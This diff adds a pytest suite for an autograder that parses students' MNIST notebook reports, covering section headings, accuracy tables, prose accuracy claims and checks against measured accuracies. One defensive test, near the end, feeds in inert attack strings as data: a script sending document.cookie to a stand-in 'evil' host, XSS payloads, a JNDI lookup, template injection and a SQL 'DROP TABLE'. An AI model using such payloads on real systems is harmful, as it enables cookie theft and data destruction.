@@ -1,0 +1,379 @@
+"""The report analysis: markdown cells in, sections / tables / stated accuracies and q8 outcomes out."""
+from __future__ import annotations
+
+import importlib.util
+import inspect
+import time
+
+import nbformat
+import pytest
+
+from autograder.assignment import load_assignment
+from autograder.checks import NotAssessed
+from autograder.report import (MAX_CELL_CHARS, analyze_report, architectures_named, check_claims, check_insights,
+                               check_sections, check_table, parse_accuracy, report_markdown)
+
+
+@pytest.fixture(scope="module")
+def assignment(repo):
+    return load_assignment(repo / "assignments" / "mnist")
+
+
+def words(n: int, text: str = "word") -> str:
+    return " ".join([text] * n)
+
+
+# A realistic complete report, as a student would write it across several markdown cells.
+FULL_REPORT = [
+    "# Neural networks on MNIST\nThis notebook trains five networks on MNIST.",
+    """## Report
+### Architectures
+The **MLP** flattens the 28x28 image and uses two fully connected layers of 256 and 128 units with ReLU and
+dropout, followed by a softmax layer. The CNN stacks two convolution blocks (32 and 64 filters of size 3x3,
+each followed by max pooling) before a small dense head. The three recurrent models read the image row by
+row, as a sequence of 28 steps with 28 features each: a SimpleRNN with 128 units, an LSTM with 128 units
+and a GRU with 128 units, each followed by a dense softmax output. All models use Adam and
+`sparse_categorical_crossentropy`.
+""",
+    """### Results
+All models were trained for 5 epochs with a batch size of 128 and evaluated on the 10,000 test images.
+The table compares accuracy, size and training time.
+
+| Model | Test accuracy | Parameters | Training time (s) |
+|:------|--------------:|-----------:|------------------:|
+| MLP | 97.9% | 235,146 | 21 |
+| CNN | 99.1 % | 225,034 | 95 |
+| SimpleRNN | 0.962 | 21,642 | 64 |
+| LSTM | 98.6 | 82,186 | 160 |
+| GRU | 98.4% | 62,346 | 140 |
+
+The CNN reaches 99.1% on the test set, the best of the five.
+""",
+    """### Insights
+The CNN is the clear winner: convolutions share weights across the image and build in translation
+invariance, so it beats the MLP while using fewer parameters. The MLP is the fastest to train but treats
+pixels as unrelated inputs. Among the recurrent networks the LSTM and the GRU clearly outperform the
+SimpleRNN, whose gradients vanish over the 28 time steps; their gates keep information from the first rows
+of the image. The GRU is almost as accurate as the LSTM with fewer parameters and a shorter training time.
+Recurrent models are slower per epoch because each of the 28 steps depends on the previous one. For
+images, convolution is the better inductive bias; recurrence only pays off when order matters.
+""",
+]
+MEASURED = {"mlp": 0.9785, "cnn": 0.9905, "simple_rnn": 0.9650, "lstm": 0.9860, "gru": 0.9842}
+
+
+# --- cells -------------------------------------------------------------------------------------------
+
+def test_report_markdown_takes_markdown_cells_with_str_or_list_sources():
+    nb = nbformat.v4.new_notebook(cells=[
+        nbformat.v4.new_markdown_cell("# Title"),
+        nbformat.v4.new_code_cell("print('## Results')"),
+        nbformat.v4.new_raw_cell("## Raw"),
+    ])
+    nb.cells.append(nbformat.from_dict({"cell_type": "markdown", "metadata": {},
+                                        "source": ["## Results\n", "Some text."]}))
+    assert report_markdown(nb) == ["# Title", "## Results\nSome text."]
+
+
+# --- sections ----------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("heading, section", [
+    ("## Architectures", "Architectures"),
+    ("# ARCHITECTURE", "Architectures"),
+    ("#### 1. Models used", "Architectures"),
+    ("### results", "Results"),
+    ("## Comparison of the five networks", "Results"),
+    ("Discussion\n----------", "Insights"),  # setext heading
+    ("##### Conclusions", "Insights"),
+    ("## Q8 – Analysis", "Insights"),
+])
+def test_a_heading_matches_its_section_by_title_or_alias_at_any_level_and_case(assignment, heading, section):
+    report = analyze_report([f"{heading}\n\n{words(12)}"], assignment)
+    found = report.section(section)
+    assert found.present and found.words == 12
+    others = [s for s in report.sections if s.title != section]
+    assert not any(s.present for s in others)
+
+
+def test_headings_that_only_share_letters_do_not_match(assignment):
+    report = analyze_report(["## Methodsology\n\nx", "## Resultant forces\n\nx", "## Graphical insightful\n\nx"],
+                            assignment)
+    assert not any(s.present for s in report.sections)
+
+
+def test_prose_words_exclude_code_tables_html_and_headings(assignment):
+    cell = ("## Results\n"
+            "One two `not counted` three <b>four</b> five.\n\n"
+            "- six\n- seven eight\n\n"
+            "> nine ten\n\n"
+            "```python\nnot counted at all\n```\n\n"
+            "    indented code not counted\n\n"
+            "<div>\nhtml block not counted\n</div>\n\n"
+            "| not | counted |\n|---|---|\n| a | b |\n\n"
+            "### Subsection heading not counted\n"
+            "eleven 97.9% twelve's")
+    assert analyze_report([cell], assignment).section("Results").words == 13
+
+
+def test_a_section_runs_across_cells_until_a_heading_of_the_same_or_higher_level(assignment):
+    cells = ["## Results", words(10), "### Details\n" + words(5), "# Appendix\n" + words(100)]
+    assert analyze_report(cells, assignment).section("Results").words == 15
+    cells = ["## Results", words(10), "## Next\n" + words(100)]
+    assert analyze_report(cells, assignment).section("Results").words == 10
+
+
+def test_of_several_matching_headings_the_longest_section_counts(assignment):
+    cells = ["## Evaluation\n" + words(5), "## Results\n" + words(40), "## Experiments\n" + words(7)]
+    found = analyze_report(cells, assignment).section("Results")
+    assert (found.heading, found.words) == ("Results", 40)
+
+
+def test_check_sections_names_missing_and_short_sections(assignment):
+    cells = ["## Architectures\n" + words(70), "## Insights\n" + words(23)]
+    outcome = check_sections(analyze_report(cells, assignment), assignment)
+    assert outcome.fraction == pytest.approx(1 / 3)
+    assert "no 'Results' section" in outcome.message
+    assert "'Insights' has 23 words; at least 80 are expected" in outcome.message
+    assert "Architectures" not in outcome.message
+
+
+# --- naming architectures ----------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text, expected", [
+    ("MLP", {"mlp"}), ("a multilayer perceptron", {"mlp"}), ("Dense network", {"mlp"}),
+    ("fully-connected", {"mlp"}), ("feed-forward net", {"mlp"}), ("mlp_model", {"mlp"}),
+    ("CNN (2 conv + dense layers)", {"cnn"}), ("Convolutional", {"cnn"}), ("Conv2D", {"cnn"}), ("CNNs", {"cnn"}),
+    ("SimpleRNN", {"simple_rnn"}), ("Simple RNN", {"simple_rnn"}), ("vanilla RNN", {"simple_rnn"}),
+    ("RNN", {"simple_rnn"}), ("rnn_model", {"simple_rnn"}),
+    ("RNN (LSTM)", {"lstm"}), ("LSTMs", {"lstm"}), ("GRU", {"gru"}), ("gru_model", {"gru"}),
+    ("LSTM vs GRU", {"lstm", "gru"}), ("the LSTM beats the simple RNN", {"lstm", "simple_rnn"}),
+    ("grunt work on a kernel", set()), ("recurrent network", set()), ("Model", set()),
+])
+def test_architectures_named(text, expected):
+    assert architectures_named(text) == expected
+
+
+# --- tables ------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("cell, expected", [
+    ("98.1%", 0.981), ("98.1 %", 0.981), ("98.1", 0.981), ("0.981", 0.981), (".981", 0.981),
+    ("**98.1%**", 0.981), ("98,1 %", 0.981), ("~98.1% ± 0.2", 0.981), ("100", 1.0),
+    ("n/a", None), ("", None), ("—", None), ("1234", None),
+])
+def test_parse_accuracy(cell, expected):
+    assert parse_accuracy(cell) == (pytest.approx(expected) if expected is not None else None)
+
+
+def test_table_rows_map_to_architectures_with_accuracies_in_any_notation(assignment):
+    table = ("## Results\n"
+             "| # | Network | Params | Accuracy |\n|---|---|---|---|\n"
+             "| 1 | Dense (MLP) | 235k | 97.9% |\n"
+             "| 2 | ConvNet | 225k | 0.991 |\n"
+             "| 3 | vanilla RNN | 21k | 96.2 |\n"
+             "| 4 | RNN with LSTM cells | 82k | 98.6 % |\n"
+             "| 5 | gru_model | 62k | n/a |\n"
+             "| 6 | Ensemble | 600k | 99.3% |\n")
+    [parsed] = analyze_report([table], assignment).tables
+    assert parsed.accuracy_header == "Accuracy"
+    rows = [(r.architecture, r.accuracy) for r in parsed.rows]
+    assert rows == [("mlp", pytest.approx(0.979)), ("cnn", pytest.approx(0.991)),
+                    ("simple_rnn", pytest.approx(0.962)), ("lstm", pytest.approx(0.986)),
+                    ("gru", None), (None, pytest.approx(0.993))]
+    outcome = check_table(analyze_report([table], assignment), assignment)
+    assert outcome.fraction == pytest.approx(4 / 5)
+    assert outcome.message == "The comparison table has no numeric accuracy for: GRU."
+
+
+def test_the_test_accuracy_column_wins_and_validation_columns_make_no_claims(assignment):
+    both = "| Model | Val acc | Test acc |\n|---|---|---|\n| MLP | 97.5% | 97.9% |\n"
+    [parsed] = analyze_report([both], assignment).tables
+    assert (parsed.accuracy_header, parsed.rows[0].accuracy) == ("Test acc", pytest.approx(0.979))
+    validation_only = "| Model | Validation accuracy |\n|---|---|\n| MLP | 99.0% |\n"
+    report = analyze_report([validation_only], assignment)
+    assert report.tables[0].rows[0].accuracy == pytest.approx(0.99)
+    assert report.claims == ()
+
+
+def test_a_table_with_architectures_as_columns_is_read_transposed(assignment):
+    table = ("| Metric | MLP | CNN | SimpleRNN | LSTM | GRU |\n|---|---|---|---|---|---|\n"
+             "| Params | 235k | 225k | 21k | 82k | 62k |\n"
+             "| Test accuracy | 97.9% | 99.1% | 96.2% | 98.6% | 98.4% |\n")
+    report = analyze_report(["## Results\n" + table], assignment)
+    assert {r.architecture: r.accuracy for r in report.tables[0].rows} == pytest.approx(
+        {"mlp": 0.979, "cnn": 0.991, "simple_rnn": 0.962, "lstm": 0.986, "gru": 0.984})
+    assert check_table(report, assignment).fraction == 1.0
+
+
+def test_a_sweep_with_several_rows_per_architecture_counts_for_the_table_but_makes_no_claims(assignment):
+    sweep = "| Model | Units | Accuracy |\n|---|---|---|\n| MLP | 64 | 96.0% |\n| MLP | 256 | 97.9% |\n| CNN | - | 99.1% |\n"
+    report = analyze_report([sweep], assignment)
+    assert [(c.architecture, c.accuracy) for c in report.claims] == [("cnn", pytest.approx(0.991))]
+    assert check_table(report, assignment).fraction == pytest.approx(2 / 5)
+
+
+def test_a_table_without_an_accuracy_column_is_named_in_the_message(assignment):
+    report = analyze_report(["| Model | Params |\n|---|---|\n| MLP | 235k |\n"], assignment)
+    outcome = check_table(report, assignment)
+    assert outcome.fraction == 0 and "no accuracy column" in outcome.message
+
+
+# --- prose claims ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("sentence, expected", [
+    ("The CNN reaches 99.1% on the test set.", ("cnn", 0.991)),
+    ("Our MLP achieved a test accuracy of 0.979.", ("mlp", 0.979)),
+    ("- LSTM – 98.6 %", ("lstm", 0.986)),
+    ("The GRU got 98.4 percent right.", ("gru", 0.984)),
+    ("With 20% dropout, the MLP reaches 97.9%.", ("mlp", 0.979)),
+    ("The simple RNN only reaches ~96%.", ("simple_rnn", 0.96)),
+])
+def test_prose_sentences_naming_one_architecture_and_one_accuracy_are_claims(assignment, sentence, expected):
+    claims = analyze_report([f"Some context.\n\n{sentence}\n\nAnd then some."], assignment).claims
+    assert [(c.architecture, c.source) for c in claims] == [(expected[0], "prose")]
+    assert claims[0].accuracy == pytest.approx(expected[1])
+    assert sentence.strip("- ") in claims[0].quote
+
+
+@pytest.mark.parametrize("sentence", [
+    "LSTM beats the MLP by 1.5%.",                         # two architectures, and a difference
+    "The LSTM is 1.5% better.",                            # a difference, not an accuracy
+    "The LSTM improves on it by 1.5%.",
+    "The MLP uses 30% more parameters.",
+    "The CNN and the GRU both reach 98.9%.",               # two architectures
+    "The MLP reaches 99.9% training accuracy.",            # not the test set
+    "The GRU reaches 98.0% validation accuracy.",
+    "Your MLP should reach at least 97% accuracy.",        # an instruction, not a result
+    "The CNN gets above 99%.",                             # a bound
+    "The LSTM reaches 98.6% and 98.9% in two runs.",       # two numbers
+    "The CNN reaches between 98-99%.",                     # a range
+    "The MLP has a dropout rate of 0.5 and 235,146 parameters.",  # no accuracy
+    "The CNN reaches 0.991.",                              # a bare fraction with no accuracy word
+    "Accuracy reached 98.9% overall.",                     # no architecture
+    "```\nmlp accuracy 97.9%\n```",                        # code block
+    "The MLP reaches 97.9% of its final accuracy after one epoch.",  # a share of something else
+    "The CNN has an error rate of 0.9%.",
+])
+def test_sentences_that_are_not_accuracy_claims(assignment, sentence):
+    assert analyze_report([sentence], assignment).claims == ()
+
+
+# --- claims vs measurements --------------------------------------------------------------------------
+
+def _claims_report(assignment, text="| Model | Test accuracy |\n|---|---|\n| MLP | 97.9% |\n| CNN | 99.1% |\n"):
+    return analyze_report([text], assignment)
+
+
+def test_claims_within_tolerance_pass(assignment):
+    outcome = check_claims(_claims_report(assignment), {"mlp": 0.975, "cnn": 0.9815}, 0.01)
+    assert outcome.fraction == 1.0
+    assert "All 2 accuracies" in outcome.message
+
+
+def test_a_claim_exactly_one_point_off_is_within_a_one_point_tolerance(assignment):
+    assert check_claims(_claims_report(assignment), {"mlp": 0.969, "cnn": 0.981}, 0.01).fraction == 1.0
+
+
+def test_a_claim_outside_tolerance_costs_the_points_and_quotes_both_numbers(assignment):
+    report = _claims_report(assignment, "## Results\nThe MLP reaches 99.5% on the test set.")
+    outcome = check_claims(report, {"mlp": 0.97}, 0.01)
+    assert outcome.fraction == 0.0
+    assert outcome.message == ("Your report says the MLP reaches 99.5% but the grader measured 97.0% on the "
+                               "MNIST test set (tolerance 1.0 points).")
+
+
+def test_claims_for_unmeasured_architectures_are_ignored(assignment):
+    outcome = check_claims(_claims_report(assignment), {"mlp": 0.979}, 0.01)
+    assert outcome.fraction == 1.0
+    assert "CNN 99.1%" in outcome.detail and "ignored: not measured" in outcome.detail
+    with pytest.raises(NotAssessed, match="MLP, CNN"):
+        check_claims(_claims_report(assignment), {"gru": 0.98}, 0.01)
+
+
+def test_no_stated_accuracy_scores_zero(assignment):
+    outcome = check_claims(analyze_report(["## Results\nThe models work well."], assignment), MEASURED, 0.01)
+    assert outcome.fraction == 0.0 and "no accuracies to compare" in outcome.message
+
+
+# --- insights ----------------------------------------------------------------------------------------
+
+def test_insights_need_length_and_a_comparison_for_full_credit(assignment):
+    compare = "The CNN beats the MLP. " + words(76)
+    assert check_insights(analyze_report(["## Insights\n" + compare], assignment), assignment).fraction == 1.0
+
+    short = check_insights(analyze_report(["## Insights\nThe CNN beats the MLP. " + words(35)], assignment),
+                           assignment)
+    assert short.fraction == pytest.approx(0.5 * 40 / 80 + 0.5)
+    assert "it has 40 words; at least 80 are expected" in short.message
+
+    one = check_insights(analyze_report(["## Discussion\nThe CNN is good. " + words(80)], assignment), assignment)
+    assert one.fraction == 0.5 and "compare the architectures" in one.message and "names CNN" in one.message
+
+
+# --- whole reports -----------------------------------------------------------------------------------
+
+def _hidden_tests(repo):
+    spec = importlib.util.spec_from_file_location("report_tests", repo / "assignments/mnist/hidden/report_tests.py")
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+def _run_q8(repo, assignment, cells, measured):
+    """Call each q8 hidden test the way the runner does: fixtures by parameter name."""
+    module = _hidden_tests(repo)
+    fixtures = {"report": analyze_report(cells, assignment), "assignment": assignment,
+                "measured_public_accuracy": measured}
+    q8 = next(q for q in assignment.questions if q.id == "q8")
+    return {check.test: getattr(module, check.test)(
+        **{name: fixtures[name] for name in inspect.signature(getattr(module, check.test)).parameters})
+        for check in q8.checks}
+
+
+def test_a_complete_report_passes_all_four_checks(repo, assignment):
+    outcomes = _run_q8(repo, assignment, FULL_REPORT, MEASURED)
+    assert {name: o.fraction for name, o in outcomes.items()} == {
+        "report_sections": 1.0, "report_table": 1.0, "report_insights": 1.0, "report_claims": 1.0}
+    report = analyze_report(FULL_REPORT, assignment)
+    assert sorted((c.architecture, c.source) for c in report.claims) == [
+        ("cnn", "prose"), ("cnn", "table"), ("gru", "table"), ("lstm", "table"), ("mlp", "table"),
+        ("simple_rnn", "table")]
+
+
+def test_the_complete_report_fails_claims_when_the_grader_measures_otherwise(repo, assignment):
+    outcomes = _run_q8(repo, assignment, FULL_REPORT, {**MEASURED, "lstm": 0.95})
+    assert outcomes["report_claims"].fraction == 0.0
+    assert "LSTM reaches 98.6% but the grader measured 95.0%" in outcomes["report_claims"].message
+
+
+def test_an_empty_report_scores_zero_with_clear_messages(repo, assignment):
+    outcomes = _run_q8(repo, assignment, [], MEASURED)
+    assert all(o.fraction == 0.0 for o in outcomes.values())
+    assert "no 'Architectures' section" in outcomes["report_sections"].message
+    assert "No markdown table was found" in outcomes["report_table"].message
+    assert "No 'Insights' section" in outcomes["report_insights"].message
+    assert "no accuracies to compare" in outcomes["report_claims"].message
+
+
+def test_injection_looking_content_is_just_text(assignment):
+    cells = ["## Results <script>alert('x')</script>\n"
+             "\x1b[31mThe MLP reaches 97.9% on the test set.\x1b[0m <img src=x onerror=alert(1)>\n\n"
+             "<script>\nfetch('http://evil/' + document.cookie)\n</script>\n\n"
+             "{{ 7*7 }} {% raw %} ${jndi:ldap://x} '; DROP TABLE grades; --\n\n"
+             "| Model | Acc |\n|---|---|\n| <b>CNN</b> | 99.1% |\n"]
+    report = analyze_report(cells, assignment)
+    results = report.section("Results")
+    assert results.heading == "Results alert('x')"  # tags are dropped, their text is plain text
+    assert [(c.architecture, c.accuracy) for c in report.claims] == [("cnn", pytest.approx(0.991)),
+                                                                     ("mlp", pytest.approx(0.979))]
+    assert "\x1b[31mThe MLP" in report.claims[1].quote  # kept verbatim, never interpreted
+    outcome = check_claims(report, {"mlp": 0.979, "cnn": 0.991}, 0.01)
+    assert outcome.fraction == 1.0
+
+
+def test_huge_cells_are_truncated_and_parsed_quickly(assignment):
+    cells = ["## Results\n" + words(40), "[" * (3 * MAX_CELL_CHARS), "*a " * MAX_CELL_CHARS]
+    start = time.perf_counter()
+    report = analyze_report(cells, assignment)
+    assert time.perf_counter() - start < 20
+    assert report.truncated and report.section("Results").words >= 40
+    assert not analyze_report(["## Results\n" + words(40)], assignment).truncated
